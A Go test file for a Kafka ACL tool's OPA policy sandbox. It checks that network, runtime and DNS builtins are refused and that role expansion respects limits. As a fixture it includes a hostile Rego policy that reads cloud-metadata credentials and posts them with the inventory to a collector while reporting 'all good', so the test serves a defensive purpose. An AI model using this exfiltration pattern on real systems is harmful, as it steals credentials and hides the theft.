package policies

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/open-policy-agent/opa/v1/ast"

	"github.com/kafkaguard/kafkaguard/internal/testutil"
	"github.com/kafkaguard/kafkaguard/inventory"
)

// collector is a local HTTP server that counts the requests it receives:
// the stand-in for a cloud metadata endpoint and an attacker's collector.
func collector(t *testing.T) (*httptest.Server, *atomic.Int64) {
	t.Helper()
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, `{"secret":"metadata-credential"}`)
	}))
	t.Cleanup(srv.Close)
	return srv, &hits
}

func writePolicy(t *testing.T, name, src string) string {
	t.Helper()
	return testutil.WriteFiles(t, map[string]string{name: src})
}

// exfilPolicy is the pull request's policy: fetch credentials, post them
// with the inventory, and report "all good".
func exfilPolicy(url string) string {
	return `package exfil

warn contains msg if {
	creds := http.send({"method": "GET", "url": "` + url + `/latest/meta-data"})
	http.send({"method": "POST", "url": "` + url + `/collect", "body": {"creds": creds.body, "inv": input}})
	msg := "all good"
}
`
}

func TestSandboxRefusesHTTPSendAndTheServerReceivesNothing(t *testing.T) {
	srv, hits := collector(t)
	dir := writePolicy(t, "exfil.rego", exfilPolicy(srv.URL))
	inv := mustLoad(t, "../testdata/inventory/design.yaml")

	_, err := Compile(context.Background(), inv, Options{PolicyDirs: []string{dir}})
	if err == nil {
		t.Fatal("Compile accepted a policy calling http.send")
	}
	want := filepath.Join(dir, "exfil.rego") + ":4:11: builtin http.send is not allowed"
	if !strings.Contains(err.Error(), want) || !errors.Is(err, ErrSandboxed) {
		t.Errorf("error = %q, want it to contain %q and match ErrSandboxed", err, want)
	}

	// policy test compiles the same policy: refused too.
	test := writePolicy(t, "exfil_test.rego", exfilPolicy(srv.URL)+"\ntest_x if { count(warn) > 0 }\n")
	if _, err := Test(context.Background(), []string{test}, TestOptions{NoLibrary: true}); err == nil || !strings.Contains(err.Error(), "builtin http.send is not allowed") || !errors.Is(err, ErrSandboxed) {
		t.Errorf("Test error = %v, want http.send refused", err)
	}
	if n := hits.Load(); n != 0 {
		t.Fatalf("the collector received %d requests", n)
	}
}

func TestSandboxRefusesRuntimeAndDNSBuiltins(t *testing.T) {
	for _, call := range []string{`opa.runtime().env`, `net.lookup_ip_addr("example.com")`} {
		name := call[:strings.Index(call, "(")]
		dir := writePolicy(t, "p.rego", "package p\n\nwarn contains msg if {\n\tx := "+call+"\n\tmsg := sprintf(\"%v\", [x])\n}\n")
		_, err := Compile(context.Background(), mustLoad(t, "../testdata/inventory/design.yaml"), Options{PolicyDirs: []string{dir}})
		if err == nil || !strings.Contains(err.Error(), ":4:") || !strings.Contains(err.Error(), "builtin "+name+" is not allowed") {
			t.Errorf("%s: error = %v, want file:4:col naming the builtin", name, err)
		}
	}
}

func TestSandboxKeepsPureBuiltins(t *testing.T) {
	caps := SandboxCapabilities()
	have := map[string]bool{}
	for _, b := range caps.Builtins {
		have[b.Name] = true
	}
	for _, name := range []string{"sprintf", "startswith", "net.cidr_contains", "regex.match", "time.now_ns", "glob.match"} {
		if !have[name] {
			t.Errorf("sandbox lacks %s", name)
		}
	}
	for _, name := range []string{"http.send", "net.lookup_ip_addr", "opa.runtime"} {
		if have[name] {
			t.Errorf("sandbox keeps %s", name)
		}
	}
	if caps.AllowNet == nil || len(caps.AllowNet) != 0 {
		t.Errorf("AllowNet = %v, want empty (no host)", caps.AllowNet)
	}
}

// A --capabilities file in OPA's format opts in: the same policy compiles
// and the request is made (so the refusal above is the sandbox's doing).
func TestCapabilitiesFileOptsIn(t *testing.T) {
	srv, hits := collector(t)
	dir := writePolicy(t, "exfil.rego", exfilPolicy(srv.URL))
	js, err := json.Marshal(ast.CapabilitiesForThisVersion())
	if err != nil {
		t.Fatal(err)
	}
	capsFile := filepath.Join(t.TempDir(), "caps.json")
	if err := os.WriteFile(capsFile, js, 0o644); err != nil {
		t.Fatal(err)
	}
	res, err := Compile(context.Background(), mustLoad(t, "../testdata/inventory/design.yaml"), Options{PolicyDirs: []string{dir}, Capabilities: capsFile})
	if err != nil {
		t.Fatal(err)
	}
	if hits.Load() == 0 || len(res.Warn) == 0 {
		t.Errorf("with the capabilities file: %d requests, %d warnings; want the policy to run", hits.Load(), len(res.Warn))
	}

	// A file that is not capabilities JSON is an error naming it.
	bad := filepath.Join(t.TempDir(), "bad.json")
	os.WriteFile(bad, []byte(`{"nope": 1}`), 0o644)
	if _, err := Compile(context.Background(), mustLoad(t, "../testdata/inventory/design.yaml"), Options{Capabilities: bad}); err == nil || !strings.Contains(err.Error(), bad) {
		t.Errorf("bad capabilities file: error = %v", err)
	}
}

// What a role multiplies out is held to the limits too, before it is.
func TestRoleExpansionIsHeldToTheGrantLimit(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "inv.yaml")
	os.WriteFile(p, []byte("principals:\n  a: {auth: mtls}\ngrants:\n  - {principal: a, role: consumer, topics: [t1, t2, t3, t4, t5, t6]}\n"), 0o644)
	inv, err := inventory.LoadWith(inventory.Limits{MaxGrantBindings: 10}, p)
	if err != nil {
		t.Fatal(err) // 6 topics at least: under 10
	}
	_, err = Compile(context.Background(), inv, Options{})
	var le *inventory.LimitError
	if !errors.As(err, &le) || le.Kind != inventory.LimitGrantBindings || !strings.HasPrefix(err.Error(), p+":4: grant (role consumer) would produce 12 bindings or more, over the limit of 10") {
		t.Fatalf("error = %v", err)
	}
	inv, _ = inventory.LoadWith(inventory.Limits{MaxGrantBindings: 12}, p)
	if res, err := Compile(context.Background(), inv, Options{}); err != nil || res.ACLs.Len() != 12 {
		t.Fatalf("limit 12: %v", err)
	}
}
